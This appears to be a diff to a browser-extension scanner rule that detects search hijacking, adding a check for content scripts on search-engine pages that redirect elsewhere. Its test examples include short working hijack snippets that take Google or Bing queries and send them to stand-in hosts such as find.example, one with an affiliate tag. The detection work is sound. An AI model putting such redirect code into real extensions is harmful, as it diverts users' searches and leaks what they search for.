@@ -1,8 +1,10 @@
-import { callsOf, pattern, propertyOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { apiPath, callsOf, pattern, propertyOf, writesOf, type ScriptFacts } from '../../facts/javascript/query.ts';
+import { manifestOf } from '../../facts/extension/roles.ts';
+import type { Facts } from '../../facts.ts';
 import { defineRule } from '../../rule.ts';
-import { backgroundExample, checkScripts } from './checkScripts.ts';
+import { backgroundExample, checkScripts, contentExample } from './checkScripts.ts';
 import { hostOf, textsOf } from './network.ts';
-import { originsOf } from './origins.ts';
+import { originPaths, originsOf } from './origins.ts';
 import { callsWithin, few, functionAt, usageOf } from './usage.ts';
 
 const ENGINE = /(^|[./*])(google\.(com|\*|[a-z]{2,3})|bing\.com|search\.yahoo\.com|yahoo\.com|duckduckgo\.com|baidu\.com|yandex\.(ru|com))(\/|$|\\|:)/i;
@@ -19,7 +21,12 @@ export const searchHijack = defineRule({
   references: ['https://attack.mitre.org/techniques/T1176/', 'https://extensionworkshop.com/documentation/publish/add-on-policies/'],
   why: 'People asked one search engine and get the answers of another, which earns money with each search and sees what is searched for.',
   remedy: 'Offer a search engine by the manifest’s settings override, which the browser asks about.',
-  check: checkScripts(function* ({ script, hit }) {
+  check: checkScripts(function* ({ script, file, facts, hit }) {
+    const engines = searchPages(facts, file.path);
+    if (engines !== undefined) {
+      const left = [...callsOf(script, 'location.replace', 'location.assign').map((call) => call.args[0] ?? 0), ...writesOf(script, 'href', 'location').filter((write) => write.property === 'location' || /(^|\.)location$/.test(apiPath(script, write.object) ?? '')).map((write) => write.value)];
+      for (const value of left) if (isElsewhere(pattern(script, value)) && [...originPaths(script, value)].some((path) => /(^|\.)location(\.(search|href|hash))?$/.test(path))) yield hit(value, { message: `It runs on ${engines} and leads on to ${hostOf(pattern(script, value)) ?? ''}.` });
+    }
     const engine = textsOf(script).find(({ text }) => ENGINE.test(text) && text.length < 200);
     if (engine === undefined) return;
     for (const call of few(callsOf(script, 'chrome.tabs.update', 'chrome.tabs.create'))) {
@@ -36,8 +43,10 @@ export const searchHijack = defineRule({
     bad: [
       backgroundExample('chrome.tabs.onUpdated.addListener((id, info) => { if (info.url && info.url.includes("google.com/search")) { const q = new URL(info.url).searchParams.get("q"); chrome.tabs.update(id, { url: "https://find.example/results?q=" + q }); } });'),
       backgroundExample('chrome.webRequest.onBeforeRequest.addListener((d) => { const m = /[?&]q=([^&]+)/.exec(d.url); return { redirectUrl: "https://find.example/s?q=" + m[1] + "&aff=7" }; }, { urls: ["*://*.bing.com/search*"] }, ["blocking"]);'),
+      contentExample('const q = new URLSearchParams(location.search).get("q"); if (q) location.replace("https://quick.example/r?q=" + encodeURIComponent(q));', { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] }),
     ],
     good: [
+      contentExample('const q = new URLSearchParams(location.search).get("q"); link.onclick = () => { open("https://quick.example/r?q=" + q); };', { content_scripts: [{ matches: ['*://www.google.com/search*'], js: ['content.js'] }] }),
       backgroundExample('chrome.omnibox.onInputEntered.addListener((text) => chrome.tabs.create({ url: "https://www.google.com/search?q=" + encodeURIComponent(text) }));'),
       backgroundExample('chrome.contextMenus.onClicked.addListener((i) => chrome.tabs.create({ url: "https://find.example/?q=" + i.selectionText })); const engines = ["google.com/search"];'),
       backgroundExample('chrome.tabs.onUpdated.addListener((id, info) => { if (info.url === "https://www.google.com/") show(id); });'),
@@ -96,4 +105,12 @@ function redirects(script: ScriptFacts, listener: number): { value: number; to: 
     if (to !== 0 && functionAt(script, script.pos[value] as number) >= 0) out.push({ value, to: pattern(script, to) });
   }
   return out;
+}
+
+/** The search engine on whose pages alone a content script runs. */
+function searchPages(facts: Facts, path: string): string | undefined {
+  const scripts = manifestOf(facts)?.manifest.contentScripts.filter((one) => one.js.some((file) => file === path || file === `/${path}` || file === `./${path}`)) ?? [];
+  const matches = scripts.flatMap((one) => one.matches);
+  const found = matches.find((match) => ENGINE.test(match.replace(/^[^/]*\/\//, '/').replace('*.', '')));
+  return found !== undefined && matches.length <= 20 && !matches.includes('<all_urls>') ? found : undefined;
 }
